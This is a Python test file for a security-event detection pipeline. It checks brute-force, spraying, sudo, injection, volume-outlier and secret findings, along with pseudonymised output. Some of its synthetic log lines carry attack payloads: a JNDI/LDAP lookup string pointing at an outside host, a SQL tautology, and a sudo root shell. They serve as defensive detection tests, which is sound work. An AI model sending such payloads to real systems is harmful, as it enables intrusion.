"""Security events: who is hashed and how, when findings open and close, what is in them, and the step."""

import base64
import json
import random
from pathlib import Path
from typing import Any, NamedTuple

import apache_beam as beam
import msgspec
import pytest

from logs.securityevents import judge
from logs.securityevents.events import VOLUME, Pseudonyms, SecurityEvent, events_of
from logs.securityevents.findings import finding_of, verdict_of
from logs.securityevents.judge import Rules, Told, Watch, finish, outliers, subjects_of, take
from schemas.actions import Severity
from schemas.ocsf import DetectionFinding, SecretSeen
from security.keys import Keys
from tests.logs.beamruns import Found, run
from tests.logs.logbatches import BEGIN_NS, SECOND, TRACE, batch_of, parts, record
from transforms.incidents import ToIncidents
from transforms.securityevents import FindSecurityEvents

KEYS = Keys(bytes(range(32)))
HASHES = Pseudonyms(KEYS)
RULES = Rules()
Row = dict[str, Any]


def failed(actor: str, at: float, source: str = "192.0.2.4") -> Row:
    return record(f"Failed password for {actor} from {source} port 4022 ssh2", at)


def passed(actor: str, at: float, source: str = "192.0.2.4") -> Row:
    return record(f"Accepted password for {actor} from {source} port 4022 ssh2", at)


def told(rows: list[Row], rules: Rules = RULES, secrets: list[SecurityEvent] | None = None) -> list[Told]:
    """What one shard of all subjects tells."""
    events = [*events_of(batch_of(rows), HASHES), *(secrets or [])]
    pairs = sorted(((s, e) for e in events for s in subjects_of(e)), key=lambda p: (p[1].time_ns, p[0]))
    watch = Watch()
    found = [turn for subject, event in pairs for turn in take(watch, subject, event, rules)]
    assert msgspec.msgpack.decode(msgspec.msgpack.encode(watch), type=Watch) == watch
    return found + finish(watch, rules)


def opened(rows: list[Row], rules: Rules = RULES) -> list[tuple[str, int]]:
    return [(turn.rule.uid, turn.case.count) for turn in told(rows, rules) if not turn.closed]


def test_failed_logins_in_a_row_are_one_finding_from_first_to_last() -> None:
    rows = [failed("ann", at) for at in range(0, 80, 10)]
    assert opened(rows[:4]) == []
    first, last = [turn for turn in told(rows) if turn.subject.startswith("actor:")]
    assert (first.closed, first.case.count, last.closed, last.case.count) == (False, 5, True, 8)
    assert last.case.last_ns - last.case.first_ns == 70 * SECOND


def test_failures_that_lie_apart_are_none() -> None:
    assert opened([failed("ann", at) for at in range(0, 1200, 100)]) == []


def test_what_comes_after_the_quiet_is_another_finding() -> None:
    rows = [failed("ann", at, "10.0.0.1") for start in (0, 630) for at in range(start, start + 6)]
    rows.append(failed("bob", 628))
    turns = [t for t in told(rows) if t.rule.uid == "failed_logins_actor"]
    assert [(t.closed, t.case.count) for t in turns] == [(False, 5), (True, 6), (False, 5), (True, 6)]
    assert len({finding_of(t).finding_info.uid for t in turns}) == 2


def test_many_actors_from_one_source_are_spraying() -> None:
    rows = [failed(f"user{i}", i) for i in range(12)]
    assert opened(rows) == [("password_spraying", 5), ("failed_logins_source", 10)]


def test_a_login_after_many_failures_is_told_and_one_typo_is_not() -> None:
    rows = [failed("ann", i) for i in range(3)] + [passed("ann", 5)]
    assert ("success_after_failures", 1) in opened(rows)
    titles = {finding_of(t).finding_info.title for t in told(rows) if t.rule.uid == "success_after_failures"}
    assert titles == {
        "Login after many that failed, of one actor",
        "Login after many that failed, from one source",
    }
    assert opened([failed("ann", 0), passed("ann", 5)]) == []
    assert opened([failed("ann", i) for i in range(3)] + [passed("bob", 5, "192.0.2.99")]) == []


def test_a_service_whose_lines_say_nobody_is_counted_as_a_whole() -> None:
    rows = [record("BadCredentialsException: Bad credentials", i) for i in range(60)]
    assert opened(rows) == [("failed_logins_service", 50)]


def test_changes_of_power_and_injections_open_at_once() -> None:
    rows = [
        record("sudo: ann : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh", 0),
        record("sudo: ann : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/ls", 9),
        record("GET /x", 20, attributes=json.dumps({"url.query": "q=${jndi:ldap://192.0.2.1/a}"})),
    ]
    assert opened(rows) == [("sudo_command", 1), ("lookup", 1)]
    counts = {turn.rule.uid: turn.case.count for turn in told(rows) if turn.closed}
    assert counts == {"sudo_command": 2, "lookup": 1}


def test_far_more_records_of_one_actor_than_of_others() -> None:
    rows = [
        record("read a page", 60 + at, attributes=json.dumps({"user.id": f"u{user}"}))
        for user in range(12)
        for at in range(900 if user == 7 else 5 + user)
        if at < 290
    ]
    assert opened(rows) == [("unusual_volume", 290)]
    assert outliers({f"u{i}": 10 for i in range(20)} | {"big": 99}, RULES) == []  # too few records
    assert outliers({"a": 1, "b": 5000}, RULES) == []  # nobody to compare with
    spread = {f"u{i}": 2**i for i in range(14)}
    assert outliers(spread, RULES) == []


def test_secrets_are_findings_by_kind_and_service() -> None:
    seen = [
        SecurityEvent(f"secret:{k}", BEGIN_NS + i, "shop", "", "", f"r{i}", None, 2)
        for i, k in enumerate("aab")
    ]
    found = told([], secrets=seen)
    assert [(t.rule.uid, t.case.count) for t in found if t.closed] == [("secret:a", 4), ("secret:b", 2)]


def test_findings_hold_hashes_and_no_values() -> None:
    rows = [failed("mallory", i) | {"trace_id": TRACE} for i in range(12)]
    for turn in told(rows):
        finding = finding_of(turn)
        text = msgspec.json.encode(finding).decode() + msgspec.json.encode(verdict_of(finding)).decode()
        assert "mallory" not in text and "192.0.2.4" not in text and "Failed password" not in text
        assert all(o.value for o in finding.observables)
    subject = f"actor:{HASHES.of('actor', 'Mallory ')}"
    (finding, *_) = [finding_of(t) for t in told(rows) if t.subject == subject]
    assert (finding.class_uid, finding.category_uid, finding.type_uid) == (2004, 2, 200401)
    assert (finding.severity_id, finding.severity, finding.count) == (3, "Medium", 5)
    assert finding.time == (BEGIN_NS + 4 * SECOND) // 10**6
    assert finding.finding_info.attacks[0].technique.uid == "T1110"
    assert finding.evidences[0].data.record == "logs/0/0/0"
    assert finding.evidences[0].data.trace_uid == TRACE


def test_findings_are_the_same_in_every_run() -> None:
    rows = [failed("ann", at) for at in range(8)]
    assert [finding_of(t) for t in told(rows)] == [finding_of(t) for t in told(rows)]
    ids = [finding_of(t).metadata.uid for t in told(rows)]
    assert len(set(ids)) == len(ids)


def test_a_key_makes_hashes_that_last_and_none_makes_such_of_the_process() -> None:
    assert HASHES.of("actor", "ann") == Pseudonyms(KEYS).of("actor", " ANN") == KEYS.hash("actor", "ann")
    assert HASHES.of("actor", "ann") != HASHES.of("source", "ann")
    assert Pseudonyms().of("actor", "ann") != Pseudonyms().of("actor", "ann")
    assert Pseudonyms().of("actor", None) == Pseudonyms().of("source", "-") == ""


def test_a_line_that_says_it_twice_is_counted_once() -> None:
    rows = [
        record("Failed login for user ann: invalid password for user ann"),
        record("x", timestamp_ns=None),
    ]
    assert [e.detection for e in events_of(batch_of(rows), HASHES)] == ["web_failed_login"]
    nowhen = [failed("ann", 0) | {"timestamp_ns": None, "observed_ns": None}]
    assert events_of(batch_of(nowhen), HASHES) == []


def test_volumes_are_counted_by_minute() -> None:
    rows = [record("a", at, attributes='{"user": "ann"}') for at in (0, 1, 61)]
    assert [(e.detection, e.count) for e in events_of(batch_of(rows), HASHES)] == [(VOLUME, 2), (VOLUME, 1)]


def test_memory_is_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(judge, "_MOST_CASES", 50)
    watch = Watch()
    for event in events_of(batch_of([failed(f"user{i}", i / 10, f"10.0.0.{i}") for i in range(200)]), HASHES):
        for subject in subjects_of(event):
            take(watch, subject, event, RULES)
    assert len(watch.cases) <= 50


class _Whole(NamedTuple):
    findings: Any
    verdicts: Any
    incidents: Any


class Whole(beam.PTransform):
    """The step, and incidents of what it tells."""

    def __init__(self, key_file: str | None, *, streaming: bool) -> None:
        super().__init__()
        self._streaming, self._key_file = streaming, key_file

    def expand(self, logs: beam.PCollection) -> Any:
        at_ns = BEGIN_NS + 100 * SECOND
        seen = SecretSeen(record="logs/0/9/0", kind="jwt", count=2, service="shop", time_ns=at_ns)
        first = logs | "First" >> beam.Filter(lambda batch: 0 in batch.column("offset").to_pylist())
        secrets = first | "Secret" >> beam.Map(lambda _: seen).with_output_types(SecretSeen)
        out = (logs, secrets) | FindSecurityEvents(key_file=self._key_file, streaming=self._streaming)
        incidents = out.verdicts | ToIncidents(min_verdicts=1, min_series=1, streaming=self._streaming)
        return _Whole(out.findings, out.verdicts, incidents.opened)


def attack() -> list[Row]:
    rows = [record(f"served {i}", i) for i in range(0, 600, 10)]
    rows += [failed("ann", 100 + i) for i in range(6)] + [passed("ann", 110)]
    rows += [record("GET /p?id=1' OR '1'='1", 200, service="web")]
    return sorted(rows, key=lambda row: row["timestamp_ns"])


@pytest.mark.parametrize("streaming", [False, True])
def test_the_step_tells_the_same_in_batch_and_stream_and_incidents_come_of_it(
    tmp_path: Path, streaming: bool
) -> None:
    key_file = tmp_path / "key"
    key_file.write_bytes(base64.b64encode(bytes(range(32))))
    batches = parts(attack(), 20)
    if not streaming:
        random.Random(2).shuffle(batches)  # noqa: S311
    found: Found = run(batches, Whole(str(key_file), streaming=streaming), streaming=streaming)
    findings = [msgspec.convert(f, DetectionFinding) for f in found["findings"]]
    facts = sorted((f.finding_info.types[0], f.activity_id, f.count) for f in findings)
    assert facts == [
        ("failed_logins_actor", 1, 5),
        ("failed_logins_actor", 3, 6),
        ("secret:jwt", 1, 2),
        ("secret:jwt", 3, 2),
        ("sql_tautology", 1, 1),
        ("sql_tautology", 3, 1),
        ("success_after_failures", 1, 1),
        ("success_after_failures", 1, 1),
        ("success_after_failures", 3, 1),
        ("success_after_failures", 3, 1),
    ]
    assert sorted((i["service"], i["severity"], i["plan"]["playbook"]) for i in found["incidents"]) == [
        ("shop", str(Severity.MINOR), "observe_only"),
        ("web", str(Severity.MINOR), "observe_only"),
    ]
    assert len(found["verdicts"]) == len(findings) / 2
    actors = {o.value for f in findings for o in f.observables if o.name == "actor.user.uid"}
    assert actors == {KEYS.hash("actor", "ann")}
